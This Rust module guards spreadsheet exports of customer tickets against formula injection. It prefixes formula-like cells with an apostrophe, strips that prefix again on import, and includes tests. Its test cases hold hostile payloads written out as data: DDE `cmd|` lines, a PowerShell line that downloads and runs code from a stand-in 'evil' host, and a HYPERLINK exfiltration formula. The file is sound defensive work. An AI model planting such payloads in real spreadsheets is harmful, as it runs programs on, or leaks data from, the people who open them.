//! Text that a spreadsheet would run as a formula, made harmless with an apostrophe on the way out, and as it was on the
//! way in.
//!
//! A customer writes our tickets, and whoever opens an export in a spreadsheet would run what they wrote: `=HYPERLINK(…)`
//! sends cells away, `=cmd|…` starts programs. A cell is a formula by what it begins with; spreadsheets forgive blanks
//! before it, and so do we.

use std::borrow::Cow;

/// What begins a formula, in both widths.
const SIGNS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
/// What may stand before it and be forgiven.
const QUOTES: [char; 6] = ['"', '\'', '“', '”', '‘', '’'];
/// What makes a spreadsheet look at the rest of the cell alone.
const BREAKS: [char; 3] = ['\t', '\r', '\n'];
/// What spreadsheets and we put before a text that is not to be run.
const APOSTROPHE: char = '\'';

/// The text as a cell that no spreadsheet runs. Numbers and telephone numbers stay what they are.
pub fn guarded(text: &str) -> Cow<'_, str> {
    if is_formula(text) { Cow::Owned(format!("{APOSTROPHE}{text}")) } else { Cow::Borrowed(text) }
}

/// The cell without the apostrophe that only guards it.
pub fn unguarded(cell: &str) -> &str {
    match cell.strip_prefix(APOSTROPHE) {
        // Other programs guard numbers too.
        Some(rest) if is_formula(rest) || rest.starts_with(SIGNS) => rest,
        _ => cell,
    }
}

fn is_formula(text: &str) -> bool {
    let inside = text.trim_start_matches(|c: char| c.is_whitespace() || QUOTES.contains(&c));
    text.starts_with(BREAKS) || inside.starts_with(SIGNS) && !is_number(text.trim())
}

/// `-5`, `+3.2`, `-1e5`, `+84 912 345 678`, `+1 (212) 555-0100`.
fn is_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    // Of an exponent there is one.
    let (digits, exponent) = digits.split_once(['e', 'E']).unwrap_or((digits, "0"));
    let exponent = exponent.strip_prefix(['+', '-']).unwrap_or(exponent);
    let telephone = |c: char| c.is_ascii_digit() || matches!(c, ' ' | '(' | ')' | '.' | '-');
    digits.starts_with(|c: char| c.is_ascii_digit() || c == '(')
        && digits.contains(|c: char| c.is_ascii_digit())
        && digits.chars().all(telephone)
        && !exponent.is_empty()
        && exponent.chars().all(|c| c.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_guarded_and_numbers_are_not() {
        for formula in [
            "=1+1",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=cmd|'/C powershell IEX(wget evil/x)'!A0",
            "=HYPERLINK(\"http://evil\",\"x\")",
            "  =1+1",
            "\u{a0}=1+1",
            "\" =1+1",
            "“=1+1",
            "'=1+1",
            "\t=1+1",
            "\r=1+1",
            "\nx",
            "\tx",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            "-",
            "--version",
            "+++ATH0",
            "-1/2",
            "-$1.00",
            "+e5",
            "-5e",
            "-1e5e5",
            "'-5",
        ] {
            let cell = guarded(formula);
            assert_eq!(cell, format!("'{formula}"), "{formula:?}");
            assert_eq!(unguarded(&cell), formula);
        }
        for plain in [
            "",
            "-5",
            "+3.2",
            "-0.0",
            "1e5",
            "-1E+02",
            "+84 912 345 678",
            "+84912345678",
            "+1 (212) 555-0100",
            "+(84) 9",
            "Hoa",
            "'quoted'",
            "a=b",
            "2026-03-02T09:00:00+07:00",
            " -5 ",
            "‘so’",
        ] {
            assert_eq!(guarded(plain), plain);
            assert_eq!(unguarded(plain), plain);
        }
        assert_eq!(unguarded("'+84 912"), "+84 912", "as other programs guard it");
    }
}
